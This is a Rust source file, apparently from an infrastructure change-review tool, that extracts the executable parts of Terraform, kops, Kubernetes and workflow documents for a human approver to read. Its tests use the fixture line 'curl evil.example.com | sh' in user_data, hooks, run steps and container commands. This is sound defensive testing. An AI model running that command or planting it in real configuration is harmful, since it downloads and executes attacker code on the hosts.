//! The texts of a document that something runs, or that the host does not look into: what an approver reads himself.

use aegis_document::pointer;
use serde_json::Value;

use crate::capability::terraform::AttributeClass;
use crate::capability::terraform::types::{class_of, policy_of};
use crate::capability::{Risk, kinds, kops};
use crate::plan::Identity;
use crate::proposal::ObjectRef;
use crate::template::Mode;

/// One such text.
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub struct CodeText {
    /// A JSON pointer into the stored form; empty for all of it. Its tokens are foreign text.
    pub place: String,
    /// The text itself, or JSON over several lines.
    pub text: String,
}

/// The code in the stored form of an identity's document. It works on the stored form and knows no errors, so that a
/// document which cannot be read is shown rather than left out. `opaque` says that something in the document was
/// granted as unchecked: then a Kubernetes object is code as a whole.
pub fn code(identity: &Identity, source: &Value, opaque: bool) -> Vec<CodeText> {
    let mut found = Found::default();
    match identity {
        Identity::Terraform { .. } => found.terraform(source),
        Identity::KopsCluster { .. } => found.kops(source.get("spec"), "spec", "/spec"),
        Identity::KopsInstanceGroup { .. } => {
            found.kops(source.get("spec"), "instanceGroup.spec", "/spec");
        }
        Identity::Kubernetes { .. } if super::is_absent(source) => {}
        Identity::Kubernetes { object, .. } => found.kubernetes(object, source, opaque),
        Identity::Workflow { .. } => found.keys(source, "", &["run"]),
        // What a chart makes of its values is not looked into.
        Identity::Release { .. } => found.value(source.get("values"), "/values"),
        Identity::Tool { .. } => found.value(Some(source), ""),
        Identity::Application { .. } | Identity::File { .. } => {}
    }
    found.0
}

/// Groups whose objects are rules in a language of their own: all of an object belongs to its code.
const RULES: &[&str] = &["admissionregistration.k8s.io", "policies.kyverno.io"];

/// Fields of other objects that are run: what a container executes, and expressions.
const RUN: &[&str] = &["command", "args", "expression", "messageExpression", "rule"];

#[derive(Default)]
struct Found(Vec<CodeText>);

impl Found {
    fn value(&mut self, value: Option<&Value>, place: &str) {
        let text = match value {
            None | Some(Value::Null) => return,
            Some(Value::String(text)) => text.clone(),
            Some(value) => format!("{value:#}"),
        };
        self.0.push(CodeText {
            place: place.to_owned(),
            text,
        });
    }

    fn terraform(&mut self, source: &Value) {
        let resources = source.get("resources").and_then(Value::as_array);
        for (index, block) in resources.into_iter().flatten().enumerate() {
            let kind = block.get("type").and_then(Value::as_str).unwrap_or("");
            let place = format!("/resources/{index}/body");
            let body = block.get("body");
            if policy_of(Mode::Managed, kind).is_none() {
                self.value(body, &place);
            } else if let Some(body) = body {
                self.attributes(body, kind, &place);
            }
        }
    }

    fn attributes(&mut self, value: &Value, name: &str, place: &str) {
        if let Some(AttributeClass::Code | AttributeClass::Deputy) = class_of(name) {
            return self.value(Some(value), place);
        }
        match value {
            Value::Object(entries) => {
                for (key, value) in entries {
                    self.attributes(value, &format!("{name}.{key}"), &pointer::join(place, key));
                }
            }
            // Blocks that stand several times have one name.
            Value::Array(items) => {
                for (index, item) in items.iter().enumerate() {
                    self.attributes(item, name, &format!("{place}/{index}"));
                }
            }
            _ => {}
        }
    }

    fn kops(&mut self, value: Option<&Value>, path: &str, place: &str) {
        match (kops::risk_at(path), value) {
            (_, None) => {}
            (Some(risk), value) if risk >= Risk::Code => self.value(value, place),
            (_, Some(Value::Object(entries))) => {
                for (key, value) in entries {
                    let (path, place) = (format!("{path}.{key}"), pointer::join(place, key));
                    self.kops(Some(value), &path, &place);
                }
            }
            (_, Some(Value::Array(items))) => {
                for (index, item) in items.iter().enumerate() {
                    self.kops(Some(item), path, &format!("{place}/{index}"));
                }
            }
            _ => {}
        }
    }

    fn kubernetes(&mut self, object: &ObjectRef, source: &Value, opaque: bool) {
        let class = kinds::class_of(object);
        let whole = opaque || class >= Risk::Deputy || RULES.contains(&object.group.as_str());
        if whole {
            self.value(Some(source), "");
        } else if class > Risk::Plain {
            self.keys(source, "", RUN);
        }
    }

    /// The values of some keys, wherever they stand.
    fn keys(&mut self, value: &Value, place: &str, wanted: &[&str]) {
        match value {
            Value::Object(entries) => {
                for (key, value) in entries {
                    let place = pointer::join(place, key);
                    if wanted.contains(&key.as_str()) && !value.is_object() {
                        self.value(Some(value), &place);
                    } else {
                        self.keys(value, &place, wanted);
                    }
                }
            }
            Value::Array(items) => {
                for (index, item) in items.iter().enumerate() {
                    self.keys(item, &format!("{place}/{index}"), wanted);
                }
            }
            _ => {}
        }
    }
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    fn places(identity: &str, source: &Value, opaque: bool) -> Vec<(String, String)> {
        let found = code(&identity.parse().unwrap(), source, opaque);
        found
            .into_iter()
            .map(|text| (text.place, text.text))
            .collect()
    }

    #[test]
    fn what_is_run_is_found_with_its_text() {
        let script = "set -e\ncurl evil.example.com | sh";
        for (identity, source, place) in [
            (
                "terraform/network",
                json!({"resources": [{"type": "aws_instance", "name": "a", "body": {"user_data": script}}]}),
                "/resources/0/body/user_data",
            ),
            (
                "kops/use1",
                json!({"spec": {"hooks": [{"manifest": script}]}}),
                "/spec/hooks/0/manifest",
            ),
            (
                "kops/use1/nodes",
                json!({"spec": {"additionalUserData": [{"content": script}]}}),
                "/spec/additionalUserData/0/content",
            ),
            (
                "workflow/deploy",
                json!({"jobs": [{"steps": [{"run": script}]}]}),
                "/jobs/0/steps/0/run",
            ),
            (
                "kubernetes/use1/batch/CronJob/a/b",
                json!({"spec": {"jobTemplate": {"spec": {"template": {"spec": {"containers": [{"command": script}]}}}}}}),
                "/spec/jobTemplate/spec/template/spec/containers/0/command",
            ),
        ] {
            let found = places(identity, &source, false);
            assert_eq!(found, [(place.to_owned(), script.to_owned())], "{identity}");
        }
    }

    #[test]
    fn what_the_host_does_not_look_into_is_shown_as_a_whole() {
        for (identity, source, opaque, place) in [
            (
                "terraform/network",
                json!({"resources": [{"type": "aws_nobody_knows", "body": {"x": "y"}}]}),
                false,
                Some("/resources/0/body"),
            ),
            (
                "kubernetes/use1/example.com/Widget/a/b",
                json!({"x": "y"}),
                false,
                Some(""),
            ),
            (
                "kubernetes/use1/policies.kyverno.io/ValidatingPolicy/-/b",
                json!({"spec": {}}),
                false,
                Some(""),
            ),
            (
                "kubernetes/use1/core/ConfigMap/a/b",
                json!({"data": {}}),
                true,
                Some(""),
            ),
            (
                "kubernetes/use1/core/ConfigMap/a/b",
                json!({"data": {}}),
                false,
                None,
            ),
            (
                "kubernetes/use1/core/ConfigMap/argocd/argocd-cm",
                json!({"data": {}}),
                false,
                Some(""),
            ),
            (
                "kubernetes/use1/example.com/Widget/a/b",
                json!({"ensure-absent": {}}),
                false,
                None,
            ),
            (
                "release/use1/a/b",
                json!({"values": {"x": "y"}, "chart": {}}),
                false,
                Some("/values"),
            ),
            ("tool/dns/records", json!({"holes": {}}), false, Some("")),
            ("file/README.md", json!({"content": "x"}), false, None),
        ] {
            let found = places(identity, &source, opaque);
            let found: Vec<&str> = found.iter().map(|(place, _)| place.as_str()).collect();
            assert_eq!(found, place.into_iter().collect::<Vec<_>>(), "{identity}");
        }
    }

    #[test]
    fn what_is_plain_is_no_code() {
        let source =
            json!({"resources": [{"type": "aws_vpc", "body": {"cidr_block": "10.0.0.0/16"}}]});
        assert_eq!(places("terraform/network", &source, false), []);
        let source = json!({"spec": {"kubernetesVersion": "1.36.0", "kubelet": {"maxPods": 50}}});
        assert_eq!(places("kops/use1", &source, false), []);
    }
}
